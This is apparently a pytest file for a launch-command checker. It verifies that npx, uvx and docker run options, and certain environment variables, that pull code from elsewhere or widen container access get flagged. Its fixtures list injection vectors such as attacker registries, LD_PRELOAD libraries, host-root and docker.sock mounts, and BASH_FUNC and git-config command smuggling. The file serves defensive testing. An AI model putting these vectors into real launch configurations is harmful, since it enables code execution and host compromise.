"""What a server's launch may not carry (#52 item 4), read as each launcher reads its command
line: variants of every class the issue named, and what stays allowed. The front doors that use
these checks (`import server-json`, `lint` BCL404-BCL406) have tests of their own."""

from __future__ import annotations

import pytest

from bundlectl.config.launchcheck import docker_run, loads_code, options_taking_code


@pytest.mark.parametrize(
    ("launcher", "args", "flagged"),
    [
        ("npx", ["-y", "--call=touch PWNED", "pkg@1.0.0"], [1]),
        ("npx", ["-yc", "touch PWNED", "pkg@1.0.0"], [0]),  # a cluster of one-letter options
        ("npx", ["--loglevel", "silent", "--call", "sh", "pkg@1.0.0"], [2]),  # by arity
        ("npx", ["-y", "--package", "evil@1.0.0", "run-it"], [1]),
        ("npx", ["--registry=https://npm.evil.example", "pkg@1.0.0"], [0]),
        ("npx", ["-y", "pkg@1.0.0", "--call", "x", "-p", "8080"], []),  # the package's own
        ("uvx", ["--index-url", "https://evil.example/simple", "mcp-server-time"], [0]),
        ("uvx", ["-w", "evil", "mcp-server-time"], [0]),
        ("uvx", ["--no-cache", "--extra-index-url=https://evil.example", "x"], [1]),
        ("uvx", ["mcp-server-time==2026.10.19", "--python", "x", "-p", "1"], []),
        ("uvx", ["--isolated", "mcp-server-time==2026.10.19"], []),
    ],
)
def test_a_launchers_option_that_takes_code_from_elsewhere_is_found(
    launcher: str, args: list[str], flagged: list[int]
) -> None:
    assert [index for index, _ in options_taking_code(launcher, args)] == flagged


@pytest.mark.parametrize(
    ("args", "said"),
    [
        (["-e", "LD_PRELOAD=/tmp/evil.so"], "-e LD_PRELOAD makes the container's server load"),
        (["--env=NODE_OPTIONS=--require ./x.js"], "--env NODE_OPTIONS"),
        (["-v", "/./:/host"], "whole file system"),
        (["-v", "//:/host:ro"], "whole file system"),
        (["--volume", "/srv/..:/host"], "whole file system"),
        (["-v", "/home/bob/../alice:/h"], "home folder"),
        (["-v", "/run/podman/podman.sock:/s"], "container runtime's socket"),
        (["--mount", "type=bind,src=/var/run/docker.sock,dst=/s"], "container runtime's socket"),
        (["--pid", "host"], "--pid host"),
        (["--security-opt", "systempaths=unconfined"], "turns a protection"),
    ],
)
def test_a_container_option_that_widens_access_is_found(args: list[str], said: str) -> None:
    image, found = docker_run(["run", "-i", "--rm", *args, "ghcr.io/acme/server:v1", "-v", "/:/"])
    assert image == 3 + len(args)  # read by arity: what follows the image is the server's
    assert [w.why for w in found] and said in found[0].why


def test_a_narrow_container_is_not_flagged() -> None:
    narrow = ["run", "-i", "-e", "TZ=UTC", "-v", "./data:/data:ro", "--network", "none", "img:1"]
    assert docker_run(narrow) == (8, [])


@pytest.mark.parametrize(
    ("variable", "value", "loads"),
    [
        ("LD_AUDIT", "/tmp/x.so", True),
        ("ld_preload", "/tmp/x.so", True),  # Windows reads names in any case
        ("GIT_CONFIG_KEY_0", "core.fsmonitor", True),
        ("GIT_CONFIG_PARAMETERS", "'core.sshCommand=touch PWNED'", True),
        ("PYTHONWARNINGS", "ignore::evil.Warning", True),
        ("PYTHONWARNINGS", "default,ignore::DeprecationWarning", False),
        ("BASH_FUNC_ls%%", "() { touch PWNED; }", True),
        ("LUA_INIT_5_4", "os.execute('x')", True),
        ("CORECLR_PROFILER_PATH", "/tmp/x.so", True),
        ("OPENSSL_CONF", "/tmp/engine.cnf", True),
        ("npm_config_registry", "https://npm.evil.example", True),
        ("PATH", "./bin:/usr/bin", True),
        ("GIT_AUTHOR_NAME", "bot", False),
        ("TZ", "UTC", False),
        ("NODE_ENV", "production", False),
    ],
)
def test_a_variable_that_loads_code_is_known_by_its_family(
    variable: str, value: str, loads: bool
) -> None:
    assert loads_code(variable, value) is loads
